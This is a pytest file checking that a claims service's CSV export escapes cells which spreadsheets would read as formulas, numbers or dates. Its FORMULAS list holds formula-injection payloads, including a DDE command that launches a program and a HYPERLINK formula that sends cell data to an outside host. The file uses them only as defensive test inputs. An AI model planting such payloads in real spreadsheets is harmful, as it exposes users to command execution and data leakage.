"""Tables for spreadsheets: Excel and LibreOffice show each cell as it is, and run none."""

import csv
import io
from dataclasses import replace

import pytest
from fastapi.testclient import TestClient
from sqlalchemy.orm import Session

from app.domain.knowledge import Claim
from app.storage.write.documents import reconcile
from tests.conftest import NOW
from tests.knowledge_samples import at, claim, document, ferry

FORMULAS = [
    '=HYPERLINK("http://a.org?"&A1)', "+1+1", "-2+3", "@SUM(A1)", "\uff1d1", "\u22125",
    '  =cmd|" /C calc"!A0', "\u2060=1", "\u00ad=1", "\u200e=1", "\ufeff\u3164\u00a0@SUM(A1)", "\tx",
]  # fmt: skip
NUMBERS = [
    "1694333421490987", "12e4", "1.5E+3", "0012", " 7 ", "(5)", "5-", "$1,234.50", "50%", "1 000",
    "\uff11\uff12", "\u2060" + "12",
]  # fmt: skip
DAYS_AND_TIMES = [
    "1/2", "1-2", "2022-01-28", "28.1.", "Jan 28", "January 28, 2022", "28 Jan", "MARCH1", "2-Sept",
    "Friday, January 28, 2022", "10:30", "10:30 PM", "5 p.m.",
]  # fmt: skip
OTHERS = ["TRUE", "false", "#N/A", "#REF!", "#DIV/0!"]
HARMLESS = [
    "92d6d03db8f4d187", "1a2b", "In May", "May", "5 takeaways", "40 people", "true story", "#metoo",
    "On Jan 28 he spoke", "a", "–", "...", "1st", "the 1/2 of it", "e5", "50-cent",
]  # fmt: skip


def table(client: TestClient, address: str) -> list[dict[str, str]]:
    text = client.get(address).content.decode("utf-8-sig")
    return list(csv.DictReader(io.StringIO(text, newline="")))


def methods(session: Session, client: TestClient, given: list[str]) -> list[str]:
    """The cells of claims that were found by methods of these names."""
    claims = tuple(replace(said(f"c-{n}", n), method=name) for n, name in enumerate(given))
    load(session, *claims)
    return [row["method"] for row in table(client, f"{EXPORT}&sort=document")]


EXPORT = "/v1/claims/export?format=csv&document=told"
TEXT = "".join(f"Word {n} stands here.\n" for n in range(100))


def said(identifier: str, n: int) -> Claim:
    return claim(
        identifier, n, ("ines-duarte",), at(f"Word {n} stands here.", text=TEXT), text=TEXT
    )


def load(session: Session, *claims: Claim) -> None:
    known = replace(ferry(), document=document("told", TEXT), claims=claims)
    reconcile(session, replace(known, relations=(), mentions=(), passages=()), "1", NOW)


@pytest.mark.parametrize("given", [FORMULAS, NUMBERS, DAYS_AND_TIMES, OTHERS])
def test_what_would_be_read_as_something_else_is_marked_as_text(
    ferry_session: Session, client: TestClient, given: list[str]
) -> None:
    assert methods(ferry_session, client, given) == [f"'{text}" for text in given]


def test_other_text_is_as_it_is(ferry_session: Session, client: TestClient) -> None:
    assert methods(ferry_session, client, HARMLESS) == HARMLESS


def test_an_id_of_digits_keeps_all_of_them_wherever_it_stands(
    ferry_session: Session, client: TestClient
) -> None:
    first, second = said("1694333421490987", 0), said("5334214909871694", 1)
    load(ferry_session, first, replace(second, restates=first.id, within=first.id))
    _, row = table(client, f"{EXPORT}&sort=document&restatements=true")
    assert row["id"] == f"'{second.id}"
    assert row["restates"] == row["within"] == f"'{first.id}"


def test_numbers_and_days_stay_numbers_and_days(ferry_session: Session, client: TestClient) -> None:
    row = table(client, "/v1/claims/export?format=csv&sort=document")[0]
    assert float(row["confidence"]) == 0.8
    assert row["published_on"] == "2024-03-05"
    assert row["start"].isdigit()


def test_of_several_spans_the_table_tells_where_they_begin_and_end(
    ferry_session: Session, client: TestClient
) -> None:
    (item,) = client.get("/v1/claims?q=calm").json()["items"]
    (row,) = table(client, "/v1/claims/export?format=csv&q=calm")
    first, *_, last = item["spans"]
    assert (row["start"], row["end"]) == (str(first["start"]), str(last["end"]))
